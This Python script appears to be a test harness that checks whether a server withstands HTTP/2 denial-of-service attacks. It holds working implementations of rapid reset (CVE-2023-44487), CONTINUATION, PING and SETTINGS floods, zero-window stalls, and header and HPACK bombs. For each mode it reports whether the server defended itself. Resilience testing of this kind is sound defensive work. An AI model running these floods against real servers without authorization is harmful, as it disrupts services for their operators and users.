#!/usr/bin/env python3
"""HTTP/2 abuse against a server, over raw frames (h2c prior knowledge, or TLS with --tls).

Usage: h2_abuse.py MODE --port P [--host H] [--tls] [--pid PID] [mode options]

Modes (what a defended server does in brackets):
  rapid_reset     open and immediately RST_STREAM(CANCEL) --streams streams (CVE-2023-44487)
                  [GOAWAY or close before all are sent or soon after]
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames up to --max-bytes
                  (--empty: zero-length ones, up to --max-frames) [GOAWAY/close/RST early]
  ping_flood      --count PINGs without reading the ACKs [close, GOAWAY, or it stops reading]
  settings_flood  --count SETTINGS frames without reading the ACKs [as ping_flood]
  zero_window     SETTINGS_INITIAL_WINDOW_SIZE=0, --streams GETs of --path, no WINDOW_UPDATE for
                  --hold seconds [no DATA sent, RSS growth under --max-rss-growth-kib]; then
                  (unless --no-drain) opens the windows and reads every response to the end
  header_bomb     a header list of --size bytes of distinct headers [431, RST or GOAWAY]
  hpack_bomb      one --value-size header repeated --repeat times: small on the wire, large
                  decoded (HPACK dynamic-table references) [431, RST or GOAWAY]
  missing_path    a GET without :path [RST or 400]
  host_mismatch   `host` differs from :authority [RST or 400]
  header_ws       a header value with leading and trailing whitespace [RST or 400]

With --pid, the server's VmRSS is sampled during the run (rss_before/max/after/growth in KiB).
For the single-request modes a follow-up GET --followup-path on the same connection shows
whether only the stream or the whole connection was refused.

Prints one JSON line: the mode, the server's reaction (closed, close_reason, goaway {error,
last_stream_id, debug}, rst {code: count}, statuses {code: count}, frames_sent (queued before
the connection stopped taking them), bytes_sent, elapsed_s, send_blocked), `defended` (the
bracketed expectation above held; null when it cannot be judged here) and mode fields.
Exits 0 when the attack ran (whatever the server did; with --strict, 3 unless defended), 1 when
it could not run (connection refused, bad arguments).
"""

import argparse
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame  # noqa: E402

import h2util  # noqa: E402

SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
CANCEL = 0x8


def reacted(c):
    """The server ended or refused something: GOAWAY, close, or a reset."""
    return c.goaway is not None or c.closed or bool(c.rst)


def rapid_reset(c, a):
    opened = 0
    sid = 1
    for i in range(a.streams):
        c.get(sid, a.path, flush=False)
        c.queue_frame(RstStreamFrame(sid, CANCEL))
        opened += 1
        sid += 2
        if i % 50 == 49:
            if not c.flush() or c.goaway is not None:
                break
    c.flush()
    all_sent = opened == a.streams and not c.closed and not c.blocked
    # Give the server time to react to the burst, then see whether the connection still works.
    c.wait(lambda: c.closed, a.wait)
    followup = None
    if not c.closed and c.goaway is None:
        c.get(sid, a.followup_path)
        c.wait(lambda: sid in c.status or sid in c.rst, 5)
        followup = c.status.get(sid)
    return {
        "streams_opened": opened,
        "all_sent": all_sent,
        "followup_status": followup,
        "defended": c.goaway is not None or c.closed,
    }


def continuation(c, a):
    c.reading = True
    c.queue_frame(
        HeadersFrame(1, c.encoder.encode(c.request_head(a.path)), flags=["END_STREAM"])
    )
    if a.empty:
        chunk = b""
    else:
        # Whole literal (never-indexed) header fields, so every prefix of the flood is a valid
        # header block: a server cannot reject it for bad HPACK, only for its size.
        chunk = c.encoder.encode([("x-flood", "a" * 16000)], huffman=False)
        chunk = b"".join([chunk])
    frames = 0
    payload = 0
    while not reacted(c):
        if a.empty and frames >= a.max_frames:
            break
        if not a.empty and payload >= a.max_bytes:
            break
        for _ in range(64 if a.empty else 4):
            c.queue_frame(ContinuationFrame(1, chunk))
            frames += 1
            payload += len(chunk)
        if not c.flush():
            break
        c.pump(0)
    c.wait(lambda: reacted(c), a.wait)
    return {
        "continuation_frames": frames,
        "continuation_bytes": payload,
        "defended": reacted(c),
    }


def flood(c, a, make):
    c.reading = False
    sent = 0
    while sent < a.count:
        for _ in range(min(1000, a.count - sent)):
            c.queue_frame(make(sent))
            sent += 1
        if not c.flush():
            break
    flood_end = round(time.monotonic() - c.t0, 3)
    blocked = c.blocked
    c.blocked = False
    c.wait(lambda: False, a.wait)
    return sent, flood_end, blocked


def flood_defended(c, a, blocked):
    """Closed, GOAWAY, or back-pressure (it stopped reading while its replies piled up): the
    replies it still owes are bounded. A server that read everything and stayed open must have
    kept its replies somewhere: judged by its RSS when --pid was given."""
    if c.goaway is not None or c.closed or blocked:
        return True
    if a.rss is not None and a.rss.before is not None:
        cur = h2util.read_vmrss_kib(a.pid)
        peak = max(x for x in (a.rss.max, cur) if x is not None)
        return peak - a.rss.before <= a.max_rss_growth_kib
    return None


def ping_flood(c, a):
    def make(i):
        p = PingFrame(0)
        p.opaque_data = i.to_bytes(8, "big")
        return p

    sent, flood_end, blocked = flood(c, a, make)
    return {
        "pings_sent": sent,
        "pings_acked": c.pings_acked,
        "flood_end_s": flood_end,
        "blocked_during_flood": blocked,
        "defended": flood_defended(c, a, blocked),
    }


def settings_flood(c, a):
    def make(i):
        f = SettingsFrame(0)
        f.settings[SETTINGS_INITIAL_WINDOW_SIZE] = 65535 + (i % 2)
        return f

    sent, flood_end, blocked = flood(c, a, make)
    return {
        "settings_sent": sent,
        "settings_acked": c.settings_acked,
        "flood_end_s": flood_end,
        "blocked_during_flood": blocked,
        "defended": flood_defended(c, a, blocked),
    }


def zero_window(c, a, rss):
    c.auto_window = False
    sids = [1 + 2 * i for i in range(a.streams)]
    for sid in sids:
        c.get(sid, a.path, flush=False)
    c.flush()
    c.wait(lambda: all(s in c.status or s in c.rst for s in sids), min(a.hold, 5))
    c.wait(lambda: False, a.hold)
    data_during_hold = sum(c.data_bytes.values())
    rss_hold = rss.finish()
    result = {
        "streams": a.streams,
        "statuses_at_hold": dict(c.outcome()["statuses"]),
        "data_during_hold": data_during_hold,
        "hold_s": a.hold,
        "rss_hold": rss_hold,
    }
    if rss_hold["rss_growth_kib"] is not None:
        result["defended"] = rss_hold["rss_growth_kib"] <= a.max_rss_growth_kib and data_during_hold == 0
    else:
        result["defended"] = None if data_during_hold == 0 else False
    if not a.no_drain:
        c.auto_window = True
        big = 2**31 - 1
        c.window_update(0, big - 65535, flush=False)
        for sid in sids:
            c.window_update(sid, big, flush=False)
        c.flush()
        c.wait(lambda: all(s in c.ended or s in c.rst for s in sids), a.drain_timeout)
        lengths = []
        for sid in sids:
            want = None
            for n, v in c.headers.get(sid, []):
                if n == "content-length":
                    want = int(v)
            lengths.append({"got": c.data_bytes.get(sid, 0), "content_length": want, "ended": sid in c.ended})
        result["drained"] = lengths
        result["drain_complete"] = all(
            x["ended"] and (x["content_length"] is None or x["got"] == x["content_length"]) for x in lengths
        )
        result["drain_bytes"] = sum(x["got"] for x in lengths)
    return result


def single(c, a, headers):
    """One bad request on stream 1, then a good one on stream 3."""
    c.request_headers(1, headers)
    c.wait(lambda: 1 in c.status or 1 in c.rst, a.wait)
    status = c.status.get(1)
    followup = None
    if not c.closed and c.goaway is None:
        c.get(3, a.followup_path)
        c.wait(lambda: 3 in c.status or 3 in c.rst, a.wait)
        followup = c.status.get(3)
    refused = (status is not None and 400 <= status < 500) or 1 in c.rst or (
        status is None and (c.goaway is not None or c.closed)
    )
    return {
        "stream_status": status,
        "stream_rst": c.rst.get(1),
        "followup_status": followup,
        "defended": refused,
    }


def header_bomb(c, a):
    headers = c.request_head(a.path)
    value = "v" * 100
    n = 0
    size = 0
    while size < a.size:
        name = "x-h-%05d" % n
        headers.append((name, value))
        size += len(name) + len(value) + 32  # RFC 7541 §4.1 entry size, as limits count it
        n += 1
    r = single(c, a, headers)
    r.update({"headers": n, "header_list_size": size})
    return r


def hpack_bomb(c, a):
    headers = c.request_head(a.path)
    headers += [("x-bomb", "b" * a.value_size)] * a.repeat
    block = c.encoder.encode(headers)
    decoded = sum(len(n) + len(v) + 32 for n, v in headers)
    for f in c.header_block_frames(1, block, True):
        c.queue_frame(f)
    c.flush()
    c.wait(lambda: 1 in c.status or 1 in c.rst, a.wait)
    status = c.status.get(1)
    followup = None
    if not c.closed and c.goaway is None:
        c.get(3, a.followup_path)
        c.wait(lambda: 3 in c.status or 3 in c.rst, a.wait)
        followup = c.status.get(3)
    refused = (status is not None and 400 <= status < 500) or 1 in c.rst or (
        status is None and (c.goaway is not None or c.closed)
    )
    return {
        "wire_bytes": len(block),
        "decoded_list_size": decoded,
        "stream_status": status,
        "stream_rst": c.rst.get(1),
        "followup_status": followup,
        "defended": refused,
    }


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=[
        "rapid_reset", "continuation", "ping_flood", "settings_flood", "zero_window",
        "header_bomb", "hpack_bomb", "missing_path", "host_mismatch", "header_ws",
    ])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (certificate not checked)")
    p.add_argument("--pid", type=int, default=0, help="server pid whose VmRSS to sample")
    p.add_argument("--path", default="/")
    p.add_argument("--followup-path", default="/")
    p.add_argument("--streams", type=int, default=None, help="rapid_reset: 2000; zero_window: 10")
    p.add_argument("--count", type=int, default=1000000,
                   help="ping/settings flood frames (enough to overflow loopback socket buffers)")
    p.add_argument("--max-bytes", type=int, default=64 << 20, help="continuation payload cap")
    p.add_argument("--max-frames", type=int, default=1000000, help="continuation --empty cap")
    p.add_argument("--empty", action="store_true", help="continuation: zero-length frames")
    p.add_argument("--size", type=int, default=256 * 1024, help="header_bomb list size")
    p.add_argument("--value-size", type=int, default=4000, help="hpack_bomb value size")
    p.add_argument("--repeat", type=int, default=4000, help="hpack_bomb repetitions")
    p.add_argument("--hold", type=float, default=3.0, help="zero_window hold seconds")
    p.add_argument("--max-rss-growth-kib", type=int, default=64 * 1024)
    p.add_argument("--no-drain", action="store_true")
    p.add_argument("--drain-timeout", type=float, default=60.0)
    p.add_argument("--wait", type=float, default=3.0, help="seconds to wait for a reaction")
    p.add_argument("--send-timeout", type=float, default=3.0)
    p.add_argument("--strict", action="store_true", help="exit 3 unless defended")
    a = p.parse_args()
    if a.streams is None:
        a.streams = 2000 if a.mode == "rapid_reset" else 10

    settings = {}
    if a.mode == "zero_window":
        settings[SETTINGS_INITIAL_WINDOW_SIZE] = 0
    try:
        c = h2util.RawH2(a.host, a.port, tls=a.tls, settings=settings, send_timeout=a.send_timeout)
    except Exception as e:
        h2util.emit({"mode": a.mode, "error": "connect: %s: %s" % (type(e).__name__, e)})
        return 1
    rss = h2util.RssSampler(a.pid)
    a.rss = rss
    # Let the server's SETTINGS arrive and be acknowledged first, as a real client would.
    c.wait(lambda: bool(c.server_settings), 2)
    mode = a.mode
    if mode == "rapid_reset":
        r = rapid_reset(c, a)
    elif mode == "continuation":
        r = continuation(c, a)
    elif mode == "ping_flood":
        r = ping_flood(c, a)
    elif mode == "settings_flood":
        r = settings_flood(c, a)
    elif mode == "zero_window":
        r = zero_window(c, a, rss)
    elif mode == "header_bomb":
        r = header_bomb(c, a)
    elif mode == "hpack_bomb":
        r = hpack_bomb(c, a)
    elif mode == "missing_path":
        h = [(n, v) for n, v in c.request_head(a.path) if n != ":path"]
        r = single(c, a, h)
    elif mode == "host_mismatch":
        h = c.request_head(a.path, authority="a.example") + [("host", "b.example")]
        r = single(c, a, h)
    else:  # header_ws
        h = c.request_head(a.path) + [("x-padded", " padded ")]
        r = single(c, a, h)
    result = {"mode": mode, "tls": a.tls}
    result.update(c.outcome())
    result.update(rss.finish())
    result["server_settings"] = {str(k): v for k, v in c.server_settings.items()}
    result.update(r)
    c.close()
    h2util.emit(result)
    if a.strict and result.get("defended") is not True:
        return 3
    return 0


if __name__ == "__main__":
    sys.exit(main())
